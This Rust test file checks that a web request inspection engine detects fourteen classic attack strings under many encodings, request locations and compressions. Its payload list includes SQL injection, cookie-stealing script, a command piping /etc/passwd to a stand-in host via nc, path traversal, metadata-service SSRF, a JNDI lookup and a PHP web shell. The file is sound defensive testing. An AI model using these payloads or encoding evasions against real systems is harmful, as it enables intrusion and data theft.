//! Every encoding, in every place, of one attack of each class: all are seen, or named here with the reason.
#![allow(missing_docs, clippy::print_stdout, clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use claviger::inspect::{Engine, Head, Profile, RuleFile, Settings};
use http::{HeaderMap, HeaderName, HeaderValue, Method};

/// One attack of each class, in the plainest form that there is.
const ATTACKS: [(&str, &str); 14] = [
    ("sqli", "1' UNION SELECT password FROM users-- -"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("rce", "x; cat /etc/passwd | nc evil.test 99"),
    ("lfi", "../../../../etc/passwd"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssti", "{{7*7}}{{config.__class__.__init__.__globals__}}"),
    ("nosql", "'; return this.password == 'x' || '1'=='1"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("java", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("jndi", "${jndi:ldap://evil.test/a}"),
    ("php", "<?php system($_GET['c']); ?>"),
    ("node", "require('child_process').exec('id')"),
    ("ssi", "<!--#exec cmd=\"id\" -->"),
    ("rfi", "http://198.51.100.7/shell.php?"),
];

type Write = fn(&str) -> String;
type Put = fn(&str) -> Request;
type Code = fn(&[u8]) -> Vec<u8>;

/// How a text is written down within a value.
const WRITTEN: [(&str, Write); 13] = [
    ("plain", str::to_owned),
    ("percent", percent),
    ("percent twice", |text| percent(&percent(text))),
    ("percent u", |text| {
        text.encode_utf16().fold(String::new(), |mut out, unit| {
            write!(out, "%u{unit:04x}").expect("written");
            out
        })
    }),
    ("decimal references", |text| {
        text.chars().fold(String::new(), |mut out, c| {
            write!(out, "&#{};", c as u32).expect("written");
            out
        })
    }),
    ("hexadecimal references", |text| {
        text.chars().fold(String::new(), |mut out, c| {
            write!(out, "&#x{:X};", c as u32).expect("written");
            out
        })
    }),
    ("named references", |text| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&apos;")
    }),
    ("escapes u", |text| {
        text.encode_utf16().fold(String::new(), |mut out, unit| {
            write!(out, "\\u{unit:04x}").expect("written");
            out
        })
    }),
    ("escapes x", |text| {
        text.bytes().fold(String::new(), |mut out, byte| {
            write!(out, "\\x{byte:02x}").expect("written");
            out
        })
    }),
    ("base64", |text| STANDARD.encode(text)),
    ("base64url", |text| URL_SAFE_NO_PAD.encode(text)),
    ("JSON in a string", |text| serde_json::json!({ "a": [text] }).to_string()),
    ("full width", |text| {
        text.chars()
            .map(|c| if ('!'..='~').contains(&c) { char::from_u32(c as u32 + 0xFEE0).expect("a character") } else { c })
            .collect()
    }),
];

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02X}").expect("written");
        out
    })
}

/// As browsers' scripts write cookies: what may not stand in one is percent-encoded.
fn in_cookie(text: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"!#$&'()*+-./:<=>?@[]^_`{|}~".contains(&byte);
    text.bytes().fold(String::new(), |mut out, byte| {
        if is_plain(byte) {
            out.push(char::from(byte))
        } else {
            write!(out, "%{byte:02X}").expect("written")
        };
        out
    })
}

struct Request {
    path: String,
    query: Option<String>,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

fn with_body(kind: &str, body: impl Into<Vec<u8>>) -> Request {
    Request { path: "/x".to_owned(), query: None, headers: vec![("content-type", kind.to_owned())], body: body.into() }
}

fn with_head(path: String, query: Option<String>, headers: Vec<(&'static str, String)>) -> Request {
    Request { path, query, headers, body: Vec::new() }
}

fn xml(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn multipart(value: &str, more: &str) -> Request {
    let body = format!("--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n{more}\r\n{value}\r\n--b1--\r\n");
    with_body("multipart/form-data; boundary=b1", body)
}

/// Where a value can stand.
const PLACES: [(&str, Put); 16] = [
    ("path", |value| with_head(format!("/x/{}", percent(value)), None, Vec::new())),
    ("query", |value| with_head("/x".to_owned(), Some(format!("a={}", percent(value))), Vec::new())),
    ("name in a query", |value| with_head("/x".to_owned(), Some(format!("{}=1", percent(value))), Vec::new())),
    ("header", |value| with_head("/x".to_owned(), None, vec![("x-note", value.to_owned())])),
    ("user agent", |value| with_head("/x".to_owned(), None, vec![("user-agent", value.to_owned())])),
    ("cookie", |value| with_head("/x".to_owned(), None, vec![("cookie", format!("a={}", in_cookie(value)))])),
    ("form", |value| with_body("application/x-www-form-urlencoded", format!("a={}", percent(value)))),
    ("JSON", |value| with_body("application/json", serde_json::json!({ "a": { "b": [1, value] } }).to_string())),
    ("key in JSON", |value| with_body("application/json", serde_json::json!({ "a": { value: 1 } }).to_string())),
    ("lines of JSON", |value| {
        with_body("application/x-ndjson", format!("{{\"a\":1}}\n{}\n", serde_json::json!({ "a": value })))
    }),
    ("GraphQL variable", |value| {
        let body = serde_json::json!({ "query": "query($a: String) { b(c: $a) { d } }", "variables": { "a": value } });
        with_body("application/json", body.to_string())
    }),
    ("XML text", |value| with_body("application/xml", format!("<a><b>{}</b></a>", xml(value)))),
    ("XML attribute", |value| with_body("application/xml", format!("<a b=\"{}\"/>", xml(value)))),
    ("multipart", |value| multipart(value, "")),
    ("multipart in base64", |value| multipart(&STANDARD.encode(value), "Content-Transfer-Encoding: base64\r\n")),
    ("text", |value| with_body("text/plain", value)),
];

fn gzip(body: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(body).expect("written");
    out.finish().expect("written")
}

fn brotli(body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    brotli::BrotliCompress(&mut &*body, &mut out, &brotli::enc::BrotliEncoderParams::default()).expect("written");
    out
}

fn zlib(body: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(body).expect("written");
    out.finish().expect("written")
}

/// How a whole body goes over the wire.
const CODED: [(&str, &str, Code); 7] = [
    ("as it is", "", <[u8]>::to_vec),
    ("gzip", "gzip", gzip),
    ("deflate", "deflate", zlib),
    ("br", "br", brotli),
    ("zstd", "zstd", |body| zstd::encode_all(body, 3).expect("written")),
    ("gzip, br", "gzip, br", |body| brotli(&gzip(body))),
    ("utf-16", "", |body| {
        let text = String::from_utf8(body.to_vec()).expect("text");
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
    }),
];

/// Why something is not seen; each line has to be true of all that it covers.
fn unseen(class: &str, written: &str, place: &str) -> Option<&'static str> {
    let is_address = matches!(class, "ssrf" | "rfi");
    let is_base64 = written.starts_with("base64");
    match place {
        "name in a query" | "key in JSON" if is_base64 && class != "node" => Some("nobody decodes names"),
        "name in a query" | "key in JSON" | "path"
            if class == "ssrf" && (is_base64 || written == "JSON in a string") =>
        {
            Some("an address counts where it is a whole value")
        }
        "cookie" if is_address && written == "JSON in a string" => {
            Some("percent-encoded JSON is a text, and the address a part of it")
        }
        "user agent" if is_address && !is_base64 && written != "JSON in a string" => {
            Some("honest programs tell there where they live")
        }
        "cookie" if written.ends_with("references") && written != "named references" => {
            Some("the semicolon of a reference cannot stand in a cookie, and is percent-encoded alone")
        }
        _ => None,
    }
}

fn is_seen(profile: &Profile, request: &Request) -> Option<bool> {
    let mut headers = HeaderMap::new();
    for (name, value) in &request.headers {
        headers.append(HeaderName::from_static(name), HeaderValue::from_bytes(value.as_bytes()).ok()?);
    }
    let head = Head { method: &Method::POST, path: &request.path, query: request.query.as_deref(), headers: &headers };
    Some(profile.judge(&head, Some(&request.body).filter(|body| !body.is_empty()).map(|body| &**body)).is_attack)
}

#[test]
fn every_encoding_in_every_place_is_seen_through() {
    let engine = Arc::new(Engine::new(RuleFile::ready_made().expect("rules")).expect("compiled"));
    let profile = Profile::new(engine, Settings::default()).expect("a profile");
    let (mut all, mut wrong) = (0, Vec::new());
    let mut missed: BTreeMap<String, usize> = BTreeMap::new();
    for (class, attack) in ATTACKS {
        for (written, write) in WRITTEN {
            for (place, put) in PLACES {
                let request = put(&write(attack));
                for (coded, coding, code) in CODED {
                    if coded != "as it is" && request.body.is_empty()
                        || coded == "utf-16" && place.starts_with("multipart")
                    {
                        continue;
                    }
                    let mut coded_request = Request {
                        body: code(&request.body),
                        headers: request.headers.clone(),
                        ..with_head(request.path.clone(), request.query.clone(), Vec::new())
                    };
                    if !coding.is_empty() {
                        coded_request.headers.push(("content-encoding", coding.to_owned()));
                    }
                    // What no header field can hold cannot come.
                    let Some(seen) = is_seen(&profile, &coded_request) else { continue };
                    all += 1;
                    if seen == unseen(class, written, place).is_some() {
                        wrong.push(format!("{class}, {written}, {place}, {coded}"));
                        *missed.entry(format!("{class}, {written}, {place}")).or_default() += 1;
                    }
                }
            }
        }
    }
    println!("{all} requests, {} of them otherwise than said", wrong.len());
    for (what, count) in &missed {
        println!("  {count}  {what}");
    }
    assert!(wrong.is_empty());
}
